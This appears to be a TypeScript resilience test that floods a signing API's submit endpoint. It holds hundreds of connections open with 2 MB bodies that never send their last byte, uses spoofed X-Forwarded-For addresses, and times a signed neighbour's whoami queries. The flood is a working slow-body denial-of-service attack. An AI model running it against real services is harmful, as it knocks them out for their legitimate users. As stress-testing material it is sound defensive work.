// Two sources, like a machine with an IPv4 and an IPv6 address, send large bodies stamped by an unknown
// key, and never their last byte. The neighbour sends small bodies, and large ones with a known key.

import { sign } from 'node:crypto';
import { stamper } from '../../../bench/client.ts';
import { httpRequest } from '../../../bench/load.ts';
import type { Flood, FloodedService, Target } from '../beside/flood.ts';
import { besideAttack, type SendOnce, sendStamped } from '../beside/neighbour.ts';
import { attackerAddress, keepConnections } from '../beside/raw_senders.ts';

const connections = 272;
const largeConnections = 160;
const largeBytes = 2 * 1024 * 1024 + 1;
/** Fits into the memory that the large bodies leave. */
const restBytes = 60_000;
const lastsMs = 10_000;
const neighbourBytes = 200_000;

export function attack({ port }: Target): Promise<never> {
  const large = Buffer.alloc(largeBytes, ' ');
  return keepConnections(port, connections, lastsMs, (socket, index) => {
    const body = index < largeConnections ? large : large.subarray(0, restBytes);
    const headers = [
      'POST /public/v1/submit/sign_raw_payload HTTP/1.1',
      'Host: a',
      'X-Stamp: x',
      `X-Forwarded-For: ${attackerAddress(3 + (index % 2))}`,
      `Content-Length: ${body.length + 1}`,
    ];
    socket.resume().write(`${headers.join('\r\n')}\r\n\r\n`);
    socket.write(body);
  });
}

/** Returns a neighbour that sends small and large bodies in turn. */
function smallAndLarge(service: FloodedService): SendOnce {
  const small = stamper(service.root).query('whoami', {});
  return sendStamped(service, [small, small, largeWhoAmI(service.root)]);
}

/** Returns the same query in a body that is mostly white space. */
function largeWhoAmI({ organizationId, publicKeyHex, key }: FloodedService['root']): Buffer {
  const body = Buffer.from(JSON.stringify({ organizationId }).padEnd(neighbourBytes));
  const stamp = {
    publicKey: publicKeyHex,
    scheme: 'SIGNATURE_SCHEME_TK_API_P256',
    signature: sign('sha256', body, key).toString('hex'),
  };
  const header = `X-Stamp: ${Buffer.from(JSON.stringify(stamp)).toString('base64url')}`;
  return httpRequest('/public/v1/query/whoami', [header], body);
}

export const flood: Flood = {
  name: 'bodies of two sources',
  run: (bounds) => besideAttack(bounds, import.meta.url, smallAndLarge),
};
